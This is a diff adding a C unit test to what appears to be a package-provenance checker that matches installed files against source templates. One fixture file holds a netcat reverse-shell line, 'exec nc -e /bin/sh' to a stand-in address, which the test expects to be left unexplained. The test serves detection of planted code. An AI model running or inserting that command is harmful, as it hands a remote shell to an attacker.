@@ -26,6 +26,21 @@ static void a_program_that_no_source_names_is_an_error(void **state)
     assert_int_equal(stranger->findings.list.v[0].severity, PL_SEVERITY_ERROR);
 }
 
+static void a_short_script_is_found_in_a_template_of_any_name_that_is_most_of_it(void **state)
+{
+    static const char text[] = "#!/bin/sh\ncmd=${0##*/}\nexec grep -F \"$@\"\n";
+    add_source(0, "src/egrep.sh", "#!@SHELL@\ncmd=${0##*/}\nexec @grep@ @option@ \"$@\"\n");
+    add_source(0, "src/any.sh", "#!@SHELL@\n@line@\n");
+    struct pl_file *fgrep = add_file("data.tar.xz!/usr/bin/fgrep", text);
+    struct pl_file *other =
+        add_file("data.tar.xz!/usr/bin/other", "#!/bin/sh\nexec nc -e /bin/sh 192.0.2.1 53\n");
+    fgrep->role = other->role = PL_ROLE_ACTIVE;
+    apply("text.template", fgrep);
+    apply("text.template", other);
+    assert_int_equal(unclaimed(fgrep), 0);
+    assert_int_equal(unclaimed(other), other->size);
+}
+
 static void the_name_before_the_dollar_of_a_class_counts(void **state)
 {
     add_source(0, "src/Outer.java", "class Outer { }\n");
@@ -134,6 +149,8 @@ int main(void)
         cmocka_unit_test_setup_teardown(quotes_around_a_plain_word_say_nothing_in_shell_and_only_there,
                                         set_up, tear_down),
         cmocka_unit_test_setup_teardown(a_program_that_no_source_names_is_an_error, set_up, tear_down),
+        cmocka_unit_test_setup_teardown(a_short_script_is_found_in_a_template_of_any_name_that_is_most_of_it,
+                                        set_up, tear_down),
         cmocka_unit_test_setup_teardown(the_name_before_the_dollar_of_a_class_counts, set_up, tear_down),
         cmocka_unit_test_setup_teardown(bytecode_is_opaque_and_a_script_is_not, set_up, tear_down),
         cmocka_unit_test_setup_teardown(white_space_is_explained_up_to_its_bound_and_never_in_python, set_up,
